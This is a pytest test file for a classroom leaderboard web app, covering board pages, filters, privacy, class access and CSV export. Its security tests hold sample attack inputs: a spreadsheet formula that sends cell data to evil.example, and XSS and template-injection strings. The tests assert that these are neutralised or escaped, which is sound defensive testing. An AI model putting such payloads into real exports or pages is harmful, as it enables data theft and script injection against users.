"""Pages of boards: what they show, to whom, and what is asked for by address."""

import csv
import html
import io
import re
from dataclasses import replace

import pytest
from fastapi.testclient import TestClient

from leaderboard_agents import ASSIGNMENT, measure, push, submit
from leaderboard_people import add_person
from rl_hub import clock
from rl_leaderboard.boards import assignments, board, standings
from rl_leaderboard.classes import members, records
from rl_leaderboard.people import people
from rl_leaderboard.settings import Settings
from rl_leaderboard.sources import states
from rl_leaderboard.submissions import submissions
from rl_leaderboard.web.app import create_app
from rl_leaderboard.web.pages import numbers
from rl_leaderboard.web.pages.board_groups import CLAIMS, UNSCORED, group_rows
from rl_units.baselines import load_baselines

PAGE = f"/boards/{ASSIGNMENT}"
FRAGMENT = {"HX-Request": "true"}


def students(answer):
    """The students of a page's rows, in order."""
    rows = re.findall(r'<th scope="row">.*?<bdi>(.*?)</bdi>', answer.text, re.DOTALL)
    return [html.unescape(name) for name in rows]


def lines(answer):
    """What stands between the rows."""
    return [html.unescape(text) for text in re.findall(r'scope="rowgroup">(.*?)</th>', answer.text)]


def link(answer, text):
    """Where a link or a button of the page leads; None if there is none of this text."""
    found = re.search(rf'<a [^>]*href="([^"]*)"[^>]*>{re.escape(text)}</a>', answer.text)
    return html.unescape(found[1]) if found else None


def table(answer):
    """A CSV file as rows of dictionaries."""
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def fill(classroom, count):
    submit(classroom, *(push(f"s{number:03}", mean=1000 - number, std=0) for number in range(count)))


def make_class(classroom, teacher, *students):
    with classroom.write() as connection:
        made = records.create(connection, "Tuesdays", teacher.person)
        for student in students:
            members.join(connection, made.id, student.person.id, "student")
    return made.id


def test_every_board_is_listed_with_its_leader_and_its_threshold(classroom, client):
    submit(classroom, push("ada", mean=300, std=50), push("grace", mean=310, std=10))

    answer = client.get("/boards")

    for assignment in classroom.course.assignments:
        assert f'href="/boards/{assignment.id}">{assignment.title}</a>' in answer.text
    assert "2 agents" in answer.text
    assert "pass at 200.00" in answer.text
    assert "<strong>300.00</strong>" in answer.text
    assert "claimed by <bdi>grace</bdi>" in answer.text


def test_a_row_tells_what_is_known_of_an_agent(classroom, client):
    (number,) = submit(classroom, push("ada", has_replay=True))
    measure(classroom, number, [300.0, 310.0, 290.0], interval=(280.5, 295.5))

    answer = client.get(PAGE)

    assert students(answer) == ["ada"]
    for shown in ("291.84", "280.50 to 295.50", "300.00", "8.16", "Verified", "DQN · stable-baselines3"):
        assert shown in answer.text
    assert f'href="/agents/{number}"' in answer.text
    assert f'href="/agents/{number}#replay"' in answer.text
    assert 'aria-sort="descending"' in answer.text
    assert "<caption" in answer.text


def test_a_board_without_agents_says_so(client):
    answer = client.get("/boards/pong")

    assert "Nobody is on this board yet" in answer.text
    assert "open challenge" in client.get("/boards").text


@pytest.mark.parametrize("path", ["/boards/nothing", "/boards/nothing.csv", "/boards/nothing/me"])
def test_there_is_no_board_that_the_course_does_not_have(client, path):
    assert client.get(path).status_code == 404


def test_only_the_page_of_a_public_student_is_linked(classroom, client):
    submit(classroom, push("ada"), push("grace"))
    ada, grace = add_person(classroom, "ada"), add_person(classroom, "grace")
    with classroom.write() as connection:
        people.change_privacy(connection, ada, pseudonym="", is_public=True)

    answer = client.get(PAGE)

    assert f'href="/students/{ada.id}"' in answer.text
    assert f'href="/students/{grace.id}"' not in answer.text


def test_nothing_on_a_board_tells_the_name_behind_a_pseudonym(classroom, client):
    submit(classroom, push("ada"))
    person = add_person(classroom, "ada")
    with classroom.write() as connection:
        people.change_privacy(connection, person, pseudonym="Countess", is_public=False)

    answers = [client.get(PAGE), client.get(f"{PAGE}.csv"), client.get("/boards"), client.get(PAGE, headers=FRAGMENT)]

    for answer in answers:
        assert "Countess" in answer.text
        assert "ada/" not in answer.text
        assert not re.search(r"\bada\b", answer.text)


# Search, filters and pages


def test_filters_leave_what_is_looked_for(classroom, client):
    (first, *_) = submit(
        classroom,
        push("ada"),
        replace(push("grace"), algorithm="PPO"),
        replace(push("alan"), library="cleanrl"),
    )
    measure(classroom, first)

    assert students(client.get(f"{PAGE}?search=GRA")) == ["grace"]
    assert students(client.get(f"{PAGE}?algorithm=PPO")) == ["grace"]
    assert students(client.get(f"{PAGE}?library=cleanrl")) == ["alan"]
    assert students(client.get(f"{PAGE}?verified=yes")) == ["ada"]
    assert sorted(students(client.get(f"{PAGE}?verified=no"))) == ["alan", "grace"]
    assert "Nothing found" in client.get(f"{PAGE}?search=nobody").text


def test_a_form_sent_with_empty_fields_looks_for_everything(classroom, client):
    fill(classroom, 3)

    answer = client.get(f"{PAGE}?search=&algorithm=&library=&verified=&class=&rank=&after=&before=")

    assert students(answer) == ["s000", "s001", "s002"]


def test_pages_lead_forth_and_back_with_the_same_filters(classroom, client):
    fill(classroom, 130)

    first = client.get(f"{PAGE}?algorithm=DQN")
    second = client.get(link(first, "Next page"))
    third = client.get(link(second, "Next page"))

    assert (len(students(first)), len(students(second)), len(students(third))) == (50, 50, 30)
    assert students(second)[0] == "s050"
    assert link(first, "Previous page") is link(first, "First page") is None
    assert link(third, "Next page") is None
    assert students(client.get(link(third, "Previous page"))) == students(second)
    assert link(third, "First page") == f"{PAGE}?algorithm=DQN"
    assert "130 agents found" in third.text


def test_a_rank_can_be_gone_to(classroom, client):
    fill(classroom, 60)

    answer = client.get(f"{PAGE}?rank=58")

    assert students(answer) == ["s057", "s058", "s059"]
    assert "The board has no such rank" in client.get(f"{PAGE}?rank=61").text


@pytest.mark.parametrize(
    "query",
    [
        *("rank=0", "rank=-1", "rank=x", "rank=99999999999", "rank=1.5", "rank=²", "after=x", "before=%00"),
        *("verified=maybe", "class=x", "search=%00", "algorithm=a%00", "search=" + "x" * 101),
    ],
)
def test_what_cannot_be_is_refused_in_a_sentence(classroom, client, query):
    fill(classroom, 1)

    answer = client.get(f"{PAGE}?{query}")

    assert answer.status_code == 400
    assert "Traceback" not in answer.text


@pytest.mark.parametrize("path", [PAGE, f"{PAGE}.csv", f"/api/v1{PAGE}"])
def test_so_many_words_can_be_looked_for_and_no_more(classroom, client, path):
    fill(classroom, 1)

    assert client.get(f"{path}?search=s+0+0+0+s0+00").status_code == 200
    refused = client.get(f"{path}?search=s+0+0+0+s0+00+s00")
    assert refused.status_code == 400
    assert "Search for 6 words or less." in refused.text


def test_a_script_that_asks_for_a_part_gets_the_rows_alone(classroom, client):
    fill(classroom, 3)

    whole, part = client.get(f"{PAGE}?search=s00"), client.get(f"{PAGE}?search=s00", headers=FRAGMENT)

    assert part.text.lstrip().startswith('<section id="board"')
    assert "<html" not in part.text
    assert students(part) == students(whole)
    assert f'hx-get="{PAGE}?search=s00"' in part.text
    for answer in (whole, part):
        assert "HX-Request" in answer.headers["Vary"]
        assert f'data-live-board="{ASSIGNMENT}"' in answer.text


def test_the_kept_page_of_a_board_follows_it(classroom, client):
    submit(classroom, push("ada"))
    before = students(client.get(PAGE))
    submit(classroom, push("grace"))

    assert before == ["ada"]
    assert sorted(students(client.get(PAGE))) == ["ada", "grace"]


# Who asks


def test_a_student_is_led_to_the_page_with_the_own_row(classroom, sign_in):
    fill(classroom, 120)
    someone = sign_in("S101")

    led = someone.get(f"{PAGE}/me", follow_redirects=False)
    page = someone.get(f"{PAGE}/me")

    assert led.headers["location"] == f"{PAGE}?rank=101#me"
    assert students(page)[1] == "s101"
    assert re.search(r'<tr id="me" aria-current="true">.*?>s101<', page.text, re.DOTALL)
    assert page.text.count('id="me"') == 1
    assert "Rank 102" in page.text


def test_who_is_not_on_the_board_is_told_so(classroom, sign_in):
    fill(classroom, 3)
    someone = sign_in("ada")

    assert someone.get(f"{PAGE}/me", follow_redirects=False).headers["location"] == PAGE
    assert "You are not on this board yet" in someone.get(PAGE).text


def test_what_is_swapped_after_a_push_says_where_the_student_stands(classroom, sign_in, client):
    someone = sign_in("ada")
    assert "You are not on this board yet" in someone.get(PAGE, headers=FRAGMENT).text
    assert "on this board yet." not in client.get(PAGE, headers=FRAGMENT).text
    submit(classroom, push("ada"))

    part = someone.get(PAGE, headers=FRAGMENT).text

    assert "You are not on this board yet" not in part
    assert "Where am I? Rank 1" in part
    assert "Where am I?" not in client.get(PAGE, headers=FRAGMENT).text


def test_who_is_not_signed_in_is_asked_to(client):
    answer = client.get(f"{PAGE}/me", follow_redirects=False)

    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/login?next=")


def test_a_person_of_an_issuer_that_no_hub_knows_has_no_row(classroom, sign_in):
    submit(classroom, push("ada"))
    someone = sign_in("ada")
    with classroom.write() as connection:
        people.welcome(connection, people.Arrival("https://school.example", "1", "eve", None))
        connection.exec_driver_sql("UPDATE people SET source = NULL WHERE name = 'ada'")

    assert 'id="me"' not in someone.get(PAGE).text


def test_the_students_of_a_class_are_shown_to_its_members_only(classroom, sign_in, client):
    submit(classroom, push("ada"), push("grace"), push("eve"))
    teacher, ada, eve = sign_in("hopper"), sign_in("ada"), sign_in("eve")
    class_id = make_class(classroom, teacher, ada, sign_in("grace"))
    path = f"{PAGE}?class={class_id}"

    for someone in (teacher, ada):
        assert sorted(students(someone.get(path))) == ["ada", "grace"]
        assert f'<option value="{class_id}" selected>Tuesdays</option>' in someone.get(path).text
        assert len(table(someone.get(f"{PAGE}.csv?class={class_id}"))) == 2
    for stranger in (eve, client, sign_in("site", role="teacher")):
        for address in (path, f"{PAGE}.csv?class={class_id}"):
            assert stranger.get(address).status_code == 404
            assert "Tuesdays" not in stranger.get(PAGE).text
    assert ada.get(f"{PAGE}?class={class_id + 1}").status_code == 404


# What stands around the rows


def test_the_threshold_is_a_line_where_it_falls_among_verified_scores_and_among_claims(classroom, client):
    names = ("far", "near", "below", "boaster", "modest")
    ids = submit(
        classroom, *(push(name, mean=mean, std=0) for name, mean in zip(names, (1, 1, 1, 900, 9), strict=True))
    )
    for number, score in zip(ids, (300.0, 200.0, 199.0), strict=False):
        measure(classroom, number, [score, score])

    answer = client.get(PAGE)

    assert students(answer) == list(names)
    assert lines(answer) == [
        "Pass at 200.00: the scores from here on are below",
        CLAIMS,
        "Pass at 200.00: the scores from here on are below",
    ]
    rest = answer.text[answer.text.index("the scores from here on are below") :]
    assert ">near<" not in rest
    assert ">below<" in rest


def test_who_has_no_score_stands_last_and_is_told_apart(classroom, client):
    submit(classroom, push("ada"), push("silent", mean=None))

    answer = client.get(PAGE)

    assert students(answer) == ["ada", "silent"]
    assert lines(answer)[-1] == UNSCORED


def test_an_open_challenge_has_no_line(classroom):
    submit(classroom, push("ada"))
    with classroom.read() as connection:
        rows = board.read_page(connection, board.Query(ASSIGNMENT)).rows

    (group,) = group_rows(rows, None)

    assert [line.text for line in group.lines] == [CLAIMS]


def test_baselines_are_shown_as_they_were_played(classroom, client):
    baselines = [one for one in load_baselines(classroom.course.units[0]) if one.assignment_id == ASSIGNMENT]

    answer = client.get(PAGE)

    assert len(baselines) == 2
    for baseline in baselines:
        assert numbers.score(baseline.result.score) in answer.text
        assert baseline.title in answer.text
        assert baseline.command in answer.text


def test_a_frozen_board_and_what_counts_are_told(classroom, client):
    assert "best submission counts" in client.get(PAGE).text
    with classroom.write() as connection:
        assignments.change(connection, ASSIGNMENT, counting="declared", quota_per_day=None)
        assignments.freeze(connection, ASSIGNMENT)

    answer = client.get(PAGE)

    assert "The submission that a student declares counts" in answer.text
    assert "This board has been frozen since" in answer.text


class TestWithAnotherHub:
    """A classroom that reads another Hub as well."""

    @pytest.fixture
    def settings(self, tmp_path):
        return Settings(tmp_path / "classroom-data", sources=("https://huggingface.co",))

    @pytest.fixture
    def client(self, app):
        """A browser of a classroom in which nothing goes on beside the requests: nobody reads that Hub."""
        return TestClient(app, base_url="http://classroom.test")

    def test_the_age_of_what_comes_from_it_is_told_and_what_is_wrong(self, classroom, client):
        assert "From huggingface.co: nothing has been read yet." in " ".join(client.get(PAGE).text.split())
        problem = "The Hub does not answer <since noon>."
        with classroom.write() as connection:
            state = states.SourceState("huggingface.co", last_success_at=clock.now(), problem=problem)
            states.write(connection, state)
            standings.rebuild(connection, ASSIGNMENT)

        answer = client.get(PAGE)

        assert "From huggingface.co:" in answer.text
        assert any(age in answer.text for age in ("just now", "seconds ago"))
        assert "The Hub does not answer &lt;since noon&gt;." in answer.text


# CSV


def test_the_csv_has_every_row_with_its_rank(classroom, client):
    fill(classroom, 450)

    rows = table(client.get(f"{PAGE}.csv"))

    assert [row["rank"] for row in rows] == [str(number) for number in range(1, 451)]
    assert [row["student"] for row in rows[:2]] == ["s000", "s001"]
    assert rows[0]["score"] == "1000.0"
    assert rows[0]["address"].startswith("http://classroom.test/agents/")


def test_a_filtered_csv_keeps_the_ranks_of_the_whole_board(classroom, client):
    fill(classroom, 30)

    rows = table(client.get(f"{PAGE}.csv?search=s01"))

    assert [(row["rank"], row["student"]) for row in rows][:2] == [("11", "s010"), ("12", "s011")]
    assert len(rows) == 10


def test_no_cell_of_a_csv_is_a_formula_and_numbers_stay_numbers(classroom, client):
    attack = '=HYPERLINK("https://evil.example/?"&A1)'
    evil = replace(push("@sum", mean=-5, std=1, name="+evil"), algorithm="-1+1", library=attack)
    submit(classroom, evil)

    (row,) = table(client.get(f"{PAGE}.csv"))

    assert row["student"] == "'@sum"
    assert row["algorithm"] == "'-1+1"
    assert row["library"] == f"'{attack}"
    assert row["agent"] == "'@sum/+evil"
    assert (row["score"], row["mean"]) == ("-6.0", "-5.0")


def test_the_csv_has_two_decimals(classroom, client):
    submit(classroom, push("ada", mean=1 / 3, std=0))

    (row,) = table(client.get(f"{PAGE}.csv"))

    assert (row["score"], row["mean"], row["low"]) == ("0.33", "0.33", "")


def test_who_leaves_the_board_while_it_is_downloaded_is_left_out(classroom, monkeypatch):
    monkeypatch.setattr(board, "MOST_ROWS", 1)
    (_, number, _) = submit(classroom, push("ada", mean=900), push("alan", mean=800), push("grace", mean=700))
    query = board.Query(ASSIGNMENT)
    with classroom.read() as connection:
        first, place = board.read_stretch(connection, query, board.START)
    with classroom.write() as connection:
        submissions.retract(connection, submissions.get(connection, number), "Copied.")
    with classroom.read() as connection:
        second, place = board.read_stretch(connection, query, place)
        third, place = board.read_stretch(connection, query, place)

    assert [(row.rank, row.student) for row in (*first, *second, *third)] == [(1, "ada"), (2, "grace")]
    assert place is None


def test_a_board_is_read_stretch_by_stretch_with_ranks_that_go_on(classroom, monkeypatch):
    monkeypatch.setattr(board, "MOST_ROWS", 4)
    fill(classroom, 12)
    found, place, stretches = [], board.START, 0
    while place is not None:
        with classroom.read() as connection:
            rows, place = board.read_stretch(connection, board.Query(ASSIGNMENT, search="s01"), place)
        found += [(row.rank, row.student) for row in rows]
        stretches += 1

    assert found == [(11, "s010"), (12, "s011")]
    assert stretches == 4


# Hostile names and numbers

HOSTILE = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7 * 7 }}", "a" * 90)


@pytest.mark.parametrize("name", HOSTILE)
def test_names_are_shown_as_they_are_and_do_nothing(classroom, client, name):
    one = push("x", name="y")
    (number,) = submit(classroom, replace(one, student=name, algorithm=name[:32], library=name[:64]))

    for path in (PAGE, "/boards", f"{PAGE}?search=x&algorithm={name[:32]}", f"/agents/{number}"):
        answer = client.get(path)
        assert answer.status_code == 200
        assert html.escape(name, quote=False) in answer.text.replace("&#34;", '"')
        if "<" in name:
            assert name not in answer.text
        assert "49" not in re.findall(r"<bdi>(.*?)</bdi>", answer.text)


def test_what_hides_in_a_name_is_made_visible(classroom, client):
    submit(classroom, replace(push("ada"), algorithm="DQN\u202eNQD"))

    answer = client.get(PAGE)

    assert "\u202e" not in answer.text.replace('value="DQN\u202eNQD"', "")
    assert r"DQN\u202eNQD" in answer.text


def test_a_search_is_shown_again_and_does_nothing(classroom, client):
    answer = client.get(PAGE, params={"search": '"><script>alert(1)</script>'})

    assert "<script>alert" not in answer.text
    assert 'value="&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in answer.text


@pytest.mark.parametrize(
    ("mean", "shown"),
    [(1e12, "1e+12"), (-1e12, "\N{MINUS SIGN}1e+12"), (1e9 - 0.01, "999,999,999.99"), (1e9, "1,000,000,000.00")],
)
def test_enormous_numbers_fit_into_the_table(classroom, client, mean, shown):
    submit(classroom, push("ada", mean=mean, std=0))

    assert f"<strong>{shown}</strong>" in client.get(PAGE).text


def test_malformed_baselines_leave_the_board_as_it_is(classroom, tmp_path, caplog):
    unit = classroom.course.units[0]
    folder = tmp_path / "unit"
    folder.mkdir()
    (folder / "baselines.json").write_text("{}")
    course = replace(classroom.course, units=(replace(unit, folder=folder), *classroom.course.units[1:]))

    answer = TestClient(create_app(replace(classroom, course=course))).get(PAGE)

    assert answer.status_code == 200
    assert "Random actions" not in answer.text
    assert "without its baselines" in caplog.text
